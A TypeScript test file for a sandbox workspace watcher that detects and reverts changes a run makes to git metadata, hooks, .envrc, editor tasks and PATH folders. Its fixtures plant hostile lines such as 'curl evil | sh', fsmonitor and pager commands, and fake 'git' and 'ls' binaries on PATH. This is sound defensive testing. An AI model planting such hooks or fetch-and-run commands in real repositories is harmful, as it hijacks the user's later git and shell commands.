// WorkspaceWatch on real trees (no container): a "run" is simulated by changing the tree
// between start() and finish(). Violations must be found, put back exactly, and reported.
import { execFileSync, spawnSync } from "node:child_process";
import crypto from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { isSandboxRunError, type SandboxRunError } from "../../src/errors.js";
import { violationMessage } from "../../src/workspace/violation-message.js";
import { gitChecksFailed, WorkspaceWatch, type WorkspaceWatchInput } from "../../src/workspace/workspace-watch.js";
import { tempTrees } from "../support/temp-trees.js";

const { tree } = tempTrees("sandbox-run-watch-");

/** Every entry below `dir`: type, mode, content or target (objects left out when asked). */
function state(dir: string, skip: RegExp = /^$/): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (p: string) => {
    const rel = path.relative(dir, p) || ".";
    if (skip.test(rel)) return;
    const st = fs.lstatSync(p);
    const mode = (st.mode & 0o7777).toString(8);
    if (st.isSymbolicLink()) out[rel] = `link:${fs.readlinkSync(p)}`;
    else if (st.isDirectory()) {
      out[rel] = `dir:${mode}`;
      for (const name of fs.readdirSync(p).sort()) walk(path.join(p, name));
    } else out[rel] = `file:${mode}:${fs.readFileSync(p, "base64")}`;
  };
  walk(dir);
  return out;
}

function gitRepo(): string {
  const ws = tree({ "src/a.ts": "a\n", ".gitignore": "node_modules\n" });
  const git = (...args: string[]) =>
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd: ws, stdio: "pipe" });
  git("init", "-q");
  git("add", ".");
  git("commit", "-qm", "init");
  return ws;
}

async function watch(ws: string, extra: Partial<WorkspaceWatchInput> = {}) {
  return WorkspaceWatch.start({
    workspace: ws,
    workspaceWritable: true,
    writableRoots: [],
    protectedPaths: [],
    stateDir: path.join(tree(), "state"),
    ...extra,
  });
}

describe("a tree with more config folders than a run reads (review, session 27)", () => {
  const monorepo = () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 1001; i++) files[`packages/p${String(i).padStart(4, "0")}/.envrc`] = "export A=1\n";
    return tree(files);
  };

  it("is refused naming the first folders and the first past the cap", async () => {
    let refused: unknown;
    try {
      await watch(monorepo());
    } catch (error) {
      refused = error;
    }
    expect(isSandboxRunError(refused) && refused.code).toBe("usage");
    expect((refused as Error).message).toMatch(
      /more than 1000 folders \(packages\/p0000, packages\/p0001, packages\/p0002, \.\.\.; the 1001st: packages\/p1000\)/,
    );
  });

  it("starts with git-config-paths off, the way out the refusal names (nothing reads the configs then)", async () => {
    const started = await watch(monorepo(), { disabledProtections: ["git-config-paths"] });
    expect(started).toBeDefined();
  });
});

describe("a workspace removed while the run went on (review, session 28)", () => {
  it("is a usage error naming it, not a policy violation, and leaves no state that would hold its path until gc", async () => {
    const ws = gitRepo();
    const stateDir = path.join(tree(), "state");
    const started = await watch(ws, { stateDir });
    started.save({ runId: "0123456789ab" });
    expect(fs.readdirSync(stateDir)).toContain("watch.json");
    fs.rmSync(ws, { recursive: true, force: true });
    let failed: unknown;
    try {
      await started.finish();
    } catch (error) {
      failed = error;
    }
    expect(isSandboxRunError(failed) && failed.code).toBe("usage");
    expect((failed as Error).message).toContain(`${ws} is gone`);
    expect(started.judged).toBe(true);
    started.forget();
    expect(fs.readdirSync(stateDir).filter((n) => n.startsWith("watch"))).toEqual([]);
  });
});

describe("the run's saved state removed while the run went on (review, session 32: TMPDIR removed)", () => {
  it("fails closed, saying the state is gone and that gc cannot judge it again", async () => {
    const ws = gitRepo();
    const stateDir = path.join(tree(), "state");
    const started = await watch(ws, { stateDir });
    fs.appendFileSync(path.join(ws, ".git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
    fs.rmSync(stateDir, { recursive: true, force: true });
    const failed = await started.finish().then(
      () => undefined,
      (error: unknown) => error as SandboxRunError,
    );
    expect(failed?.code).toBe("policy-violation");
    expect(failed?.shortMessage).toContain(`the run's saved state in ${stateDir} was removed while the run went on`);
    expect(failed?.hint).toMatch(/Nothing can check it again \(`sandbox-run gc` neither\)/);
  });
});

describe("a workspace moved or replaced while the run went on (review, session 29)", () => {
  const finishError = (w: WorkspaceWatch) =>
    w.finish().then(
      () => undefined,
      (e: unknown) => e,
    );

  it("another folder made at its path (a fresh clone) is never written: no old .git or CI file put back into it", async () => {
    const ws = gitRepo();
    const w = await watch(ws);
    fs.renameSync(ws, `${ws}-old`);
    fs.mkdirSync(ws);
    fs.writeFileSync(path.join(ws, "fresh.txt"), "the user's new checkout\n");
    const failed = await finishError(w);
    expect(isSandboxRunError(failed) && failed.code).toBe("usage");
    expect((failed as Error).message).toContain(`${ws} is another folder now`);
    expect(fs.readdirSync(ws)).toEqual(["fresh.txt"]);
    expect(w.judged).toBe(true);
  });

  it("a workspace moved away is named as not checked; an extra writable root still in place is judged and put back", async () => {
    const ws = gitRepo();
    const extra = tree({ "notes.txt": "n\n" });
    const w = await watch(ws, { writableRoots: [extra] });
    fs.renameSync(ws, `${ws}-moved`);
    fs.writeFileSync(path.join(extra, ".envrc"), "echo planted\n");
    const failed = await finishError(w);
    expect(isSandboxRunError(failed) && failed.code).toBe("usage");
    expect((failed as Error).message).toMatch(
      /moved, removed or replaced .* is gone.*broke the policy too \(1 change/s,
    );
    expect(fs.existsSync(path.join(extra, ".envrc"))).toBe(false);
  });
});

/** Loose objects (relative to .git): new ones are harmless and stay. */
const OBJECTS = /^objects\/[0-9a-f]{2}/;

describe("WorkspaceWatch: git doors are found and put back exactly", () => {
  it("config, commondir, config.worktree, info/attributes, hooks, modules/x/config, chmod 0777: .git is as before", async () => {
    const ws = gitRepo();
    fs.mkdirSync(path.join(ws, ".git/modules/x"), { recursive: true });
    for (const d of ["objects", "refs"]) fs.mkdirSync(path.join(ws, ".git/modules/x", d));
    fs.writeFileSync(path.join(ws, ".git/modules/x/HEAD"), "ref: refs/heads/main\n");
    fs.writeFileSync(path.join(ws, ".git/modules/x/config"), "[core]\n");
    const before = state(path.join(ws, ".git"), OBJECTS);
    const w = await watch(ws);
    // Ordinary git work (a commit: objects, refs, logs, index) is not a violation by itself.
    fs.writeFileSync(path.join(ws, "src/a.ts"), "a2\n");
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "x"], { cwd: ws });
    const g = (p: string) => path.join(ws, ".git", p);
    fs.appendFileSync(g("config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
    fs.writeFileSync(g("commondir"), "../evil\n");
    fs.writeFileSync(g("config.worktree"), "[core]\n\tfsmonitor = x\n");
    fs.writeFileSync(g("info/attributes"), "* filter=evil\n");
    fs.writeFileSync(g("hooks/post-checkout"), "#!/bin/sh\n");
    fs.chmodSync(g("hooks/post-checkout"), 0o755);
    fs.rmSync(g("description"));
    fs.appendFileSync(g("modules/x/config"), "[core]\n\tfsmonitor = x\n");
    fs.chmodSync(g(""), 0o777);

    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.change} ${v.path}`).sort()).toEqual([
      "directory-modes mode .git",
      "git-metadata created .git/commondir",
      "git-metadata created .git/config.worktree",
      "git-metadata created .git/hooks/post-checkout",
      "git-metadata created .git/info/attributes",
      "git-metadata deleted .git/description",
      "git-metadata modified .git/config",
      "git-metadata modified .git/modules/x/config",
    ]);
    expect(report.restore).toMatchObject({ reverted: [".git"], clean: true, notRestored: [], remaining: [] });
    // Exactly as before, except the object store (new objects are harmless and stay).
    expect(state(path.join(ws, ".git"), OBJECTS)).toEqual(before);
    // Host git works on the restored metadata (the run's commit is undone with it; its edit stays).
    expect(execFileSync("git", ["status", "--porcelain"], { cwd: ws, encoding: "utf8" })).toBe(" M src/a.ts\n");
    const { message, hint } = violationMessage(report, "workspace-write");
    expect(message).toContain(".git/config (modified, git-metadata)");
    expect(message).toContain("Restored: put back as before the run: .git");
    expect(`${message} ${hint}`).not.toMatch(/git status|git checkout|git diff/);
    // The hint says the run's commit is on no branch now and its edit stays (session 29: it said
    // nothing was left and there was nothing to undo).
    expect(hint).toContain("commits the run made are on no branch now");
    expect(hint).toContain("The run's other changes stay in the workspace");
  });

  it("a repository planted with its names in another case (head, OBJECTS, Refs) is removed: on a case-insensitive disk git finds it (review, session 35)", async () => {
    const ws = gitRepo();
    const w = await watch(ws);
    fs.mkdirSync(path.join(ws, "bare/OBJECTS"), { recursive: true });
    fs.mkdirSync(path.join(ws, "bare/Refs"));
    fs.writeFileSync(path.join(ws, "bare/head"), "ref: refs/heads/main\n");
    fs.writeFileSync(path.join(ws, "bare/config"), "[core]\n\tpager = touch /tmp/pwned; cat\n");
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.rule} ${v.change} ${v.path}`)).toEqual(["new-repositories created bare"]);
    expect(report.restore?.removed).toEqual(["bare"]);
    expect(fs.existsSync(path.join(ws, "bare"))).toBe(false);
  });

  it(".git moved away and replaced by a gitdir: file pointing at a planted repository: .git comes back whole, objects included", async () => {
    const ws = gitRepo();
    const before = state(path.join(ws, ".git"));
    const w = await watch(ws);
    execFileSync("git", ["init", "-q", "--bare", path.join(ws, "evil")]);
    fs.mkdirSync(path.join(ws, "deep/er"), { recursive: true });
    fs.renameSync(path.join(ws, ".git"), path.join(ws, "deep/er/old-git"));
    fs.writeFileSync(path.join(ws, ".git"), "gitdir: evil\n");
    const report = await w.finish();
    const rules = new Set(report.violations.map((v) => v.rule));
    expect(rules).toEqual(new Set(["new-repositories", "git-metadata"]));
    expect(report.restore?.removed.sort()).toEqual(["deep/er/old-git", "evil"]);
    expect(report.restore?.reverted).toEqual([".git"]);
    expect(report.restore?.clean).toBe(true);
    // The metadata from the kept copy, the object store found by its inode and moved back.
    expect(state(path.join(ws, ".git"))).toEqual(before);
    expect(fs.readdirSync(ws).sort()).toEqual([".git", ".gitignore", "deep", "src"]);
    expect(execFileSync("git", ["log", "--oneline"], { cwd: ws, encoding: "utf8" })).toMatch(/ init\n$/);
  });

  it("a new nested repository with a config is removed; a .gitmodules, .envrc and .vscode/tasks.json are undone", async () => {
    const ws = gitRepo();
    fs.mkdirSync(path.join(ws, ".vscode"));
    fs.writeFileSync(path.join(ws, ".vscode/settings.json"), "{}\n");
    const before = state(ws, OBJECTS);
    const w = await watch(ws);
    execFileSync("git", ["init", "-q", path.join(ws, "sub")]);
    fs.appendFileSync(path.join(ws, "sub/.git/config"), "[core]\n\tfsmonitor = x\n");
    fs.writeFileSync(path.join(ws, ".gitmodules"), '[submodule "x"]\n\tupdate = !sh evil\n');
    fs.writeFileSync(path.join(ws, "src/.EnvRC"), "curl evil | sh\n");
    fs.writeFileSync(path.join(ws, ".vscode/tasks.json"), '{"runOptions":{"runOn":"folderOpen"}}\n');
    fs.writeFileSync(path.join(ws, "src/fine.ts"), "ok\n");
    const report = await w.finish();
    expect(report.restore?.clean).toBe(true);
    expect(report.changedFiles.created).toContain("src/fine.ts");
    const after = state(ws, OBJECTS);
    // Everything is as before but the ordinary new file (and sub/ itself, now empty).
    expect(after).toEqual({ ...before, sub: "dir:755", "src/fine.ts": after["src/fine.ts"]! });
  });

  it("a protected file past the kept-copy cap that the run changed is removed and named as not restored", async () => {
    const ws = gitRepo();
    fs.writeFileSync(path.join(ws, ".git/hooks/big-sample"), Buffer.alloc(2 * 1024 * 1024, 65));
    const w = await watch(ws);
    fs.writeFileSync(path.join(ws, ".git/hooks/big-sample"), "#!/bin/sh\nevil\n");
    const report = await w.finish();
    expect(fs.existsSync(path.join(ws, ".git/hooks/big-sample"))).toBe(false);
    expect(report.restore?.clean).toBe(false);
    expect(report.restore?.notRestored).toEqual([
      {
        path: ".git/hooks/big-sample",
        why: expect.stringMatching(/changed by the run and not kept \(larger than 1 MiB\): removed/),
      },
    ]);
    const { message, hint } = violationMessage(report, "p");
    expect(message).toContain("NOT restored: .git/hooks/big-sample");
    // It is gone, and so is what the run wrote there: nothing to delete by hand (session 33).
    expect(hint).toMatch(/^What the run left at the paths listed as NOT restored is removed/);
    // A path whose scope was put back but which could not be (too large to keep) is said once, as
    // NOT restored (review, session 31: both, for node_modules/.bin/ls).
    const both = violationMessage(
      {
        violationCount: 1,
        violations: [{ path: "node_modules/.bin/ls", change: "modified" }],
        restore: {
          clean: false,
          reverted: ["node_modules/.bin/ls", "node_modules/.bin/git"],
          setAside: [],
          removed: [],
          objects: [],
          modes: [],
          notRestored: [
            { path: "node_modules/.bin/ls", why: "changed by the run and not kept (larger than 1 MiB): removed" },
          ],
          remaining: [],
        },
      },
      "p",
    ).message;
    expect(both).toContain("put back as before the run: node_modules/.bin/git.");
    expect(both).toContain("NOT restored: node_modules/.bin/ls (changed by the run");
  });

  it("reports workspace paths relative and writable-root paths absolute; caller globs only in the workspace; built-ins in both", async () => {
    const workspace = tree({ ".github/workflows/ci.yml": "ci", "src/a.ts": "a" });
    const extra = tree({ "cache.txt": "c" });
    const w = await watch(workspace, {
      writableRoots: [extra],
      protectedPaths: [".github/workflows/**", "**/cache.txt"],
    });
    fs.writeFileSync(path.join(workspace, ".github/workflows/ci.yml"), "evil");
    fs.writeFileSync(path.join(workspace, "src/b.ts"), "b");
    fs.writeFileSync(path.join(extra, "cache.txt"), "c2");
    fs.writeFileSync(path.join(extra, ".envrc"), "evil");
    const report = await w.finish();
    expect(report.changedFiles).toEqual({
      created: [`${extra}/.envrc`, "src/b.ts"],
      modified: [".github/workflows/ci.yml", `${extra}/cache.txt`],
      deleted: [],
    });
    expect(report.violations.map((v) => `${v.rule} ${v.change} ${v.path}`)).toEqual([
      "protectedPaths modified .github/workflows/ci.yml",
      `.envrc created ${extra}/.envrc`,
    ]);
    expect(fs.readFileSync(path.join(workspace, ".github/workflows/ci.yml"), "utf8")).toBe("ci");
    expect(fs.existsSync(path.join(extra, ".envrc"))).toBe(false);
    expect(fs.readFileSync(path.join(extra, "cache.txt"), "utf8")).toBe("c2");
  });

  it("does not walk a read-only workspace", async () => {
    const workspace = tree({ "a.ts": "a" });
    const w = await watch(workspace, { workspaceWritable: false, protectedPaths: ["**"] });
    fs.writeFileSync(path.join(workspace, ".envrc"), "changed on the host, not by the run");
    const report = await w.finish();
    expect(report.changedFiles).toEqual({ created: [], modified: [], deleted: [] });
    expect(report.violations).toEqual([]);
  });

  it("clears setuid/setgid bits of files the run created or changed, and counts allocated bytes", async () => {
    const ws = tree({ "old.sh": "x" });
    const w = await watch(ws);
    fs.writeFileSync(path.join(ws, "suid"), Buffer.alloc(100_000, 1));
    fs.chmodSync(path.join(ws, "suid"), 0o6755);
    fs.chmodSync(path.join(ws, "old.sh"), 0o4755);
    const report = await w.finish();
    expect(report.clearedSetuid.sort()).toEqual(["old.sh", "suid"]);
    expect(fs.statSync(path.join(ws, "suid")).mode & 0o7777).toBe(0o755);
    expect(report.allocatedBytes.after - report.allocatedBytes.before).toBeGreaterThanOrEqual(100_000);
  });

  it("removes the FIFOs and sockets the run left anywhere (a prompt reading .nvmrc blocked on one); the host's own stay", async () => {
    const ws = tree({ "package.json": "{}", "src/a.ts": "a" });
    execFileSync("mkfifo", [path.join(ws, "host.fifo")]);
    const w = await watch(ws);
    execFileSync("mkfifo", [path.join(ws, ".nvmrc"), path.join(ws, "src/deep.fifo"), path.join(ws, ".gitignore")]);
    fs.rmSync(path.join(ws, "package.json"));
    execFileSync("mkfifo", [path.join(ws, "package.json")]);
    execFileSync("python3", [
      "-c",
      "import socket,sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])",
      path.join(ws, "src/dev.sock"),
    ]);
    const report = await w.finish();
    const removed = report.specialRemoved.files.map((f) => `${f.path} ${f.kind}`).sort();
    expect(removed).toEqual([
      ".gitignore fifo",
      ".nvmrc fifo",
      "package.json fifo",
      "src/deep.fifo fifo",
      "src/dev.sock socket",
    ]);
    expect(report.specialRemoved.count).toBe(5);
    for (const name of [".nvmrc", "package.json", "src/deep.fifo", "src/dev.sock", ".gitignore"])
      expect(fs.existsSync(path.join(ws, name))).toBe(false);
    expect(fs.lstatSync(path.join(ws, "host.fifo")).isFIFO()).toBe(true);
    // The FIFO at a name host git reads is a violation as well, and the tree is clean after it.
    expect(report.violations.map((v) => `${v.path} ${v.rule}`)).toEqual([".gitignore git-entry-kinds"]);
    expect(report.restore?.clean).toBe(true);
    // What is gone is not listed as made; the file a FIFO replaced is deleted (review, session 29).
    expect(report.changedFiles).toEqual({ created: [], modified: [], deleted: ["package.json"] });
  });

  it("a link at a protected name protects what it points at: a hook, an agent's settings, a package's .claude folder, a target not made yet", async () => {
    const ws = tree({
      "conf/pre-commit": "npm test\n",
      "shared/claude-settings.json": "{}\n",
      "shared/claude/settings.json": "{}\n",
      "src/a.ts": "a\n",
    });
    fs.mkdirSync(path.join(ws, ".husky"));
    fs.symlinkSync("../conf/pre-commit", path.join(ws, ".husky/pre-commit"));
    fs.mkdirSync(path.join(ws, ".claude"));
    fs.symlinkSync("../shared/claude-settings.json", path.join(ws, ".claude/settings.json"));
    fs.mkdirSync(path.join(ws, "pkg"));
    fs.symlinkSync("../shared/claude", path.join(ws, "pkg/.claude"));
    fs.mkdirSync(path.join(ws, ".vscode"));
    fs.symlinkSync("../conf/tasks.json", path.join(ws, ".vscode/tasks.json"));
    // A chain (each hop is the sandbox's to re-point) and a link inside a folder one leads to.
    fs.mkdirSync(path.join(ws, ".lefthook"));
    fs.symlinkSync("../conf/a", path.join(ws, ".lefthook/pre-push"));
    fs.symlinkSync("b", path.join(ws, "conf/a"));
    fs.writeFileSync(path.join(ws, "conf/b"), "real\n");
    fs.writeFileSync(path.join(ws, "conf/s.json"), "{}\n");
    fs.symlinkSync("../../conf/s.json", path.join(ws, "shared/claude/mcp.json"));
    const w = await watch(ws);
    fs.rmSync(path.join(ws, "conf/a"));
    fs.symlinkSync("evil", path.join(ws, "conf/a"));
    fs.writeFileSync(path.join(ws, "conf/s.json"), '{"mcpServers":{}}\n');
    fs.writeFileSync(path.join(ws, "conf/pre-commit"), "touch /tmp/pwned\n");
    fs.writeFileSync(path.join(ws, "shared/claude-settings.json"), '{"hooks":{}}\n');
    fs.writeFileSync(path.join(ws, "shared/claude/hooks.sh"), "touch /tmp/pwned\n");
    fs.writeFileSync(path.join(ws, "conf/tasks.json"), '{"tasks":[]}\n');
    fs.writeFileSync(path.join(ws, "src/a.ts"), "ordinary work\n");
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.rule}`).sort()).toEqual([
      "conf/a git-config-paths",
      "conf/pre-commit git-config-paths",
      "conf/s.json git-config-paths",
      "conf/tasks.json git-config-paths",
      "shared/claude-settings.json git-config-paths",
      "shared/claude/hooks.sh git-config-paths",
    ]);
    expect(fs.readFileSync(path.join(ws, "conf/pre-commit"), "utf8")).toBe("npm test\n");
    expect(fs.existsSync(path.join(ws, "conf/tasks.json"))).toBe(false);
  });

  it("a folder on PATH that is a tree's top or its config's own folder guards the host's command names there (it guarded nothing)", async () => {
    for (const files of [
      { ".envrc": "PATH_add .\n" },
      { ".envrc": 'export PATH="$PWD:$PATH"\n' },
      { "mise.toml": '[env]\n_.path = ["{{config_root}}"]\n' },
      { "packages/web/.envrc": "PATH_add ../..\n" },
    ] as Array<Record<string, string>>) {
      const ws = tree({ ...files, "src/a.ts": "a\n" });
      const w = await watch(ws);
      fs.writeFileSync(path.join(ws, "git"), "planted", { mode: 0o755 });
      fs.writeFileSync(path.join(ws, "src/a.ts"), "ordinary work\n");
      const report = await w.finish();
      expect(report.violations.map((v) => `${v.path} ${v.rule}`)).toEqual(["git git-config-paths"]);
      expect(fs.existsSync(path.join(ws, "git"))).toBe(false);
    }
    // A package's own `PATH_add .`: its command names, not the whole package (ordinary edits pass).
    const mono = tree({ "packages/web/.envrc": "PATH_add .\n", "packages/web/index.js": "x\n" });
    let w = await watch(mono);
    fs.writeFileSync(path.join(mono, "packages/web/index.js"), "y\n");
    fs.writeFileSync(path.join(mono, "packages/web/ls"), "planted");
    let report = await w.finish();
    expect(report.violations.map((v) => v.path)).toEqual(["packages/web/ls"]);
    // A `path:` tool version at the top: mise and asdf put its bin/ first on PATH.
    const tv = tree({ ".tool-versions": "nodejs path:.\n", "src/a.ts": "a\n" });
    w = await watch(tv);
    fs.mkdirSync(path.join(tv, "bin"));
    fs.writeFileSync(path.join(tv, "bin/node"), "planted");
    report = await w.finish();
    expect(report.violations.map((v) => v.path).sort()).toEqual(["bin", "bin/node"]);
  });

  it("what configs name is protected from a package below the top, from a read-only workspace into a writable root, and in another lent tree", async () => {
    const tools = tree({ "bin/mytool": "t", "sub/.envrc": "PATH_add bin\n", "sub/bin/ok": "o" });
    const ws = tree({
      ".envrc": `PATH_add ${tools}/bin\n`,
      "packages/web/.envrc": "source_env env.local\n",
      "packages/web/env.local": "x",
    });
    // Writable: the package's sourced file; the writable root's bin (named by the workspace) and sub/bin (its own .envrc).
    let w = await watch(ws, { writableRoots: [tools] });
    fs.appendFileSync(path.join(ws, "packages/web/env.local"), "touch /tmp/x\n");
    fs.writeFileSync(path.join(tools, "bin/git"), "planted");
    fs.writeFileSync(path.join(tools, "sub/bin/ls"), "planted");
    let report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.rule}: ${v.detail}`).sort()).toEqual([
      `${tools}/bin/git git-config-paths: direnv PATH_add in ${ws}/.envrc`,
      `${tools}/sub/bin/ls git-config-paths: direnv PATH_add in ${tools}/sub/.envrc`,
      `packages/web/env.local git-config-paths: direnv source_env in ${ws}/packages/web/.envrc`,
    ]);
    expect(fs.readFileSync(path.join(ws, "packages/web/env.local"), "utf8")).toBe("x");
    expect(fs.readdirSync(path.join(tools, "bin"))).toEqual(["mytool"]);
    // A read-only workspace is not watched, but its .envrc still names the writable root's bin.
    w = await watch(ws, { workspaceWritable: false, writableRoots: [tools], stateDir: path.join(tree(), "s2") });
    fs.writeFileSync(path.join(tools, "bin/git"), "planted");
    report = await w.finish();
    expect(report.violations.map((v) => v.path)).toEqual([`${tools}/bin/git`]);
    expect(fs.readdirSync(path.join(tools, "bin"))).toEqual(["mytool"]);
  });

  it("layout node: a host command's name in node_modules/.bin is judged by name, and the file an existing link of that name points at is protected too", async () => {
    const ws = tree({ ".envrc": "layout node\n", "node_modules/node/bin/node": "real", "node_modules/.bin/tool": "t" });
    fs.symlinkSync("../node/bin/node", path.join(ws, "node_modules/.bin/node"));
    // Dangling until the package is installed: the run must not be the one to make its target.
    fs.symlinkSync("../npm-s26/bin/npm-cli.js", path.join(ws, "node_modules/.bin/npm"));
    const w = await watch(ws);
    fs.writeFileSync(path.join(ws, "node_modules/node/bin/node"), "planted");
    fs.writeFileSync(path.join(ws, "node_modules/.bin/git"), "planted");
    fs.writeFileSync(path.join(ws, "node_modules/.bin/tool"), "t2");
    fs.mkdirSync(path.join(ws, "node_modules/npm-s26/bin"), { recursive: true });
    fs.writeFileSync(path.join(ws, "node_modules/npm-s26/bin/npm-cli.js"), "planted");
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.change}: ${v.detail}`).sort()).toEqual([
      `node_modules/.bin/git created: direnv layout node (a host command's name) in ${ws}/.envrc`,
      `node_modules/node/bin/node modified: direnv layout node (a host command's name) in ${ws}/.envrc`,
      `node_modules/npm-s26/bin/npm-cli.js created: direnv layout node (a host command's name) in ${ws}/.envrc`,
    ]);
    expect(fs.readFileSync(path.join(ws, "node_modules/node/bin/node"), "utf8")).toBe("real");
    expect(fs.existsSync(path.join(ws, "node_modules/.bin/git"))).toBe(false);
    expect(fs.readFileSync(path.join(ws, "node_modules/.bin/tool"), "utf8")).toBe("t2");
  });

  it("a folder of the caller's own PATH inside the tree guards the host's command names in it (files and links, not folders), also before it exists, through a link, as a relative entry at the tree's top and with ~ (review, round 3, session 42: the sandbox's bin/git ran at the caller's next git status)", async () => {
    const ws = tree({ "tools/bin/tool": "t", "README.md": "r" });
    fs.symlinkSync("tools/bin", path.join(ws, "linked-bin"));
    const saved = { PATH: process.env.PATH, HOME: process.env.HOME };
    // A CI step's $GITHUB_PATH (not made yet), a folder reached through a link, a relative entry
    // (the caller's next command runs at the tree's top), and one written with ~.
    process.env.HOME = path.dirname(ws);
    // And a folder not made yet, reached through a link outside the tree (second fix review).
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-path-link-"));
    fs.symlinkSync(ws, path.join(outside, "ws-link"));
    process.env.PATH = `${ws}/bin:${ws}/linked-bin:./rel-bin:~/${path.basename(ws)}/home-bin:${outside}/ws-link/via-link:${saved.PATH}`;
    try {
      const w = await watch(ws);
      for (const dir of ["bin", "rel-bin", "home-bin"]) fs.mkdirSync(path.join(ws, dir));
      fs.writeFileSync(path.join(ws, "bin/git"), "planted", { mode: 0o755 });
      fs.symlinkSync("/tmp/x", path.join(ws, "rel-bin/ssh"));
      fs.writeFileSync(path.join(ws, "home-bin/bash"), "planted", { mode: 0o755 });
      fs.mkdirSync(path.join(ws, "via-link"));
      fs.writeFileSync(path.join(ws, "via-link/ls"), "planted", { mode: 0o755 });
      fs.writeFileSync(path.join(ws, "bin/app"), "built", { mode: 0o755 });
      fs.writeFileSync(path.join(ws, "tools/bin/ls"), "planted", { mode: 0o755 });
      fs.writeFileSync(path.join(ws, "tools/bin/tool"), "t2");
      // A folder named like a command runs nothing.
      fs.mkdirSync(path.join(ws, "bin/test"));
      const report = await w.finish();
      expect(report.violations.map((v) => `${v.path} ${v.change}: ${v.detail}`).sort()).toEqual([
        `bin/git created: the caller's PATH entry ${ws}/bin (a host command's name) in the caller's environment`,
        `home-bin/bash created: the caller's PATH entry ~/${path.basename(ws)}/home-bin (a host command's name) in the caller's environment`,
        "rel-bin/ssh created: the caller's PATH entry ./rel-bin (a host command's name) in the caller's environment",
        `tools/bin/ls created: the caller's PATH entry ${ws}/linked-bin (a host command's name) in the caller's environment`,
        `via-link/ls created: the caller's PATH entry ${outside}/ws-link/via-link (a host command's name) in the caller's environment`,
      ]);
      for (const planted of ["bin/git", "rel-bin/ssh", "home-bin/bash", "tools/bin/ls"])
        expect(fs.existsSync(path.join(ws, planted)), planted).toBe(false);
      expect(fs.readFileSync(path.join(ws, "bin/app"), "utf8")).toBe("built");
      expect(fs.readFileSync(path.join(ws, "tools/bin/tool"), "utf8")).toBe("t2");
      expect(fs.statSync(path.join(ws, "bin/test")).isDirectory()).toBe(true);
    } finally {
      process.env.PATH = saved.PATH;
      process.env.HOME = saved.HOME;
      fs.rmSync(outside, { recursive: true, force: true });
    }
  });

  it("refuses to start on a tree it cannot fully see (a name that is not UTF-8)", async () => {
    const ws = tree();
    fs.writeFileSync(Buffer.concat([Buffer.from(`${ws}/x-`), Buffer.from([0xff])]), "x");
    const error = await watch(ws).catch((e: unknown) => e);
    expect(isSandboxRunError(error) && error.code).toBe("usage");
    expect(String(error)).toMatch(/cannot check 1 entry .*not valid UTF-8.*nothing was started/s);
  });

  it("a name the run made that is not UTF-8 is removed by its bytes; the user's file whose real name holds U+FFFD stays (review, session 29)", async () => {
    // Node reads \xff as U+FFFD: both were one path, and the restore removed the user's file.
    const ws = tree({ "report_\uFFFD.txt": "the user's" });
    const w = await watch(ws);
    fs.writeFileSync(Buffer.concat([Buffer.from(`${ws}/report_`), Buffer.from([0xff]), Buffer.from(".txt")]), "run's");
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.change}`)).toEqual(["report_\uDCFF.txt unreadable"]);
    expect(report.restore).toMatchObject({ removed: ["report_\uDCFF.txt"], notRestored: [], clean: true });
    expect(fs.readdirSync(ws, { encoding: "buffer" }).map((n) => n.toString("hex"))).toEqual([
      Buffer.from("report_\uFFFD.txt").toString("hex"),
    ]);
    expect(fs.readFileSync(path.join(ws, "report_\uFFFD.txt"), "utf8")).toBe("the user's");
  });

  it("folders made under a setgid folder take its bit from the kernel: not a violation, not stripped; one the run sets itself still is (review, session 29)", async () => {
    const ws = tree({ "src/a.ts": "a\n", "plain/x": "x\n" });
    fs.chmodSync(ws, 0o2755);
    const w = await watch(ws);
    fs.mkdirSync(path.join(ws, "docs/api"), { recursive: true });
    fs.writeFileSync(path.join(ws, "docs/api/README.md"), "api\n");
    fs.mkdirSync(path.join(ws, "plain/made"));
    fs.chmodSync(path.join(ws, "plain/made"), 0o2755);
    expect(fs.statSync(path.join(ws, "docs/api")).mode & 0o7777).toBe(0o2755);
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.change} ${v.rule}`)).toEqual([
      "plain/made mode directory-modes",
    ]);
    expect(fs.statSync(path.join(ws, "docs")).mode & 0o7777).toBe(0o2755);
    expect(fs.statSync(path.join(ws, "docs/api")).mode & 0o7777).toBe(0o2755);
    expect(fs.statSync(path.join(ws, "plain/made")).mode & 0o7777).toBe(0o755);
  });

  it("a policy that names a rule turns it off", async () => {
    const ws = gitRepo();
    const w = await watch(ws, { disabledProtections: ["git-metadata", ".envrc"] });
    fs.appendFileSync(path.join(ws, ".git/config"), "[x]\n");
    fs.writeFileSync(path.join(ws, ".envrc"), "x");
    fs.writeFileSync(path.join(ws, ".bashrc"), "x");
    const report = await w.finish();
    expect(report.violations.map((v) => v.path)).toEqual([".bashrc"]);
  });
});

/** Host git with nothing of this host's configuration. */
function git(ws: string, ...args: string[]): string {
  return execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], {
    cwd: ws,
    encoding: "utf8",
    env: { PATH: process.env.PATH, HOME: "/nonexistent", GIT_CONFIG_NOSYSTEM: "1" },
  });
}

describe("WorkspaceWatch: a git directory comes back as plain data", () => {
  it("symlinks to files and folders outside (logs/HEAD, COMMIT_EDITMSG, refs/) are found and .git put back; host git then writes only inside", async () => {
    const ws = gitRepo();
    const outside = tree({ rc: "# a shell rc\n", "refs/heads/.keep": "" });
    const rc = path.join(outside, "rc");
    const before = state(path.join(ws, ".git"), OBJECTS);
    const w = await watch(ws);
    fs.rmSync(path.join(ws, ".git/logs/HEAD"));
